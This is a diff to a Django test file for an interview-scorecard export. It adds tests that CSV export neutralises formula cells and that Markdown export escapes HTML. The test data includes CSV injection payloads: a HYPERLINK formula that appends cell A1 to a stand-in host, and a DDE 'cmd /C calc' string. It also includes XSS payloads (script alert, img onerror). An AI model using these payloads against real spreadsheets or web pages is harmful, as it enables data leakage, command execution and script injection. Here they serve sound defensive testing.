@@ -7,6 +7,7 @@ import json
 import pytest
 from django.urls import reverse
 
+from config.csv_safety import restore
 from interviews import reports, services
 from interviews.models import Interview, Status
 
@@ -50,7 +51,10 @@ def test_csv_reads_back_equal(client, interviewer, scored):
     assert f'filename="scorecard-cam-candidate-{scored.submitted_at.date()}-{scored.pk}.csv"' in (
         disposition
     )
-    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
+    raw = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
+    # A spreadsheet shows the formula-like note as text; the reader strips the guard again.
+    assert raw[2]["notes"] == "'" + '=SUM(A1:A2), "x"'
+    rows = [{k: restore(v) for k, v in row.items()} for row in raw]
     assert list(rows[0]) == reports.CSV_COLUMNS
     items = list(scored.items.order_by("position"))
     assert len(rows) == len(items) == 3
@@ -160,6 +164,63 @@ def test_markdown_is_a_readable_scorecard(client, interviewer, scored):
     assert '> Said "it depends", then: a, b, c;\n> second line — naïve café ✓' in text
 
 
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tindented=1",
+    "\rcarriage",
+    "'=already quoted",
+]
+
+
+def test_csv_neutralises_every_formula_cell_and_reads_back(
+    client, interviewer, live_interview, bank
+):
+    """OWASP: a cell starting with = + - @ tab or CR is written with a leading quote; the
+    reader (config.csv_safety.restore) gets back exactly what was typed."""
+    for question in bank[3:7]:
+        services.interview_add_question(interview=live_interview, question=question)
+    items = list(live_interview.items.order_by("position"))
+    assert len(items) == len(FORMULAS)
+    for item, text in zip(items, FORMULAS, strict=True):
+        services.item_save_notes(item=item, notes=text, base_version=0)
+    services.interview_submit(
+        interview=live_interview,
+        recommendation="hire",
+        summary="=1+1 in the summary is not exported to CSV",
+        allow_unscored=True,
+    )
+    client.force_login(interviewer)
+    body = client.get(export_url(live_interview, "csv")).content.decode()
+    raw = list(csv.DictReader(io.StringIO(body, newline="")))
+    for row, text in zip(raw, FORMULAS, strict=True):
+        assert row["notes"] == "'" + text
+        assert restore(row["notes"]) == text
+    for row in raw:  # no cell at all starts like a formula
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_markdown_escapes_html(client, interviewer, live_interview):
+    item = live_interview.items.first()
+    services.item_save_notes(
+        item=item, notes="<script>alert(1)</script> & <b>bold</b>", base_version=0
+    )
+    services.interview_submit(
+        interview=live_interview,
+        recommendation="hire",
+        summary='<img src=x onerror="alert(2)">',
+        allow_unscored=True,
+    )
+    client.force_login(interviewer)
+    text = client.get(export_url(live_interview, "md")).content.decode()
+    assert "<script" not in text and "<img" not in text and "<b>" not in text
+    assert "> &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in text
+    assert '&lt;img src=x onerror="alert(2)"&gt;' in text
+
+
 def test_export_permissions_and_formats(
     client, interviewer, other_interviewer, hiring_manager, submitted
 ):
@@ -194,6 +255,6 @@ def test_export_query_count_does_not_grow(
     client.force_login(interviewer)
     for interview in (submitted, big):
         for fmt in ("md", "csv", "json"):
-            # session, user, permissions (2), interview, items, amendments
+            # session, user, their groups (the rules), interview, items, amendments, audit row
             with django_assert_num_queries(7):
                 assert client.get(export_url(interview, fmt)).status_code == 200
